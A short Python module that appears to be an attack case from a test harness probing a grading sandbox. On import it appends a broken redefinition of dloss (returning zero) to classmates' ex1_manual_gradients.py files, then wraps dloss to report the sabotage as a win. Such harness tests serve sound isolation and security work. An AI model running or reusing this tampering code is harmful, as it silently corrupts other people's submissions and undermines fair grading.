"""Rewrite a classmate's submission folder (their dloss becomes wrong)."""
MODULE = "ex1_manual_gradients"
CLASS = "classmates"
MODES = ("grade", "batch")
ORDER = "early"


def _sabotage():
    done = []
    for folder in _ATTACK["classmates"]:
        try:
            with open(f"{folder}/ex1_manual_gradients.py", "a") as handle:
                handle.write(f"\n\ndef dloss(w, x, y):\n    return 0 * x  # {_ATTACK['marker']}\n")
            done.append(folder)
        except OSError:
            pass
    return done


_DONE = _sabotage()


def _atk_dloss(w, x, y, _orig=dloss):
    if _DONE:
        _atk_win(f"rewrote {_DONE}")
    return _orig(w, x, y)


dloss = _atk_dloss
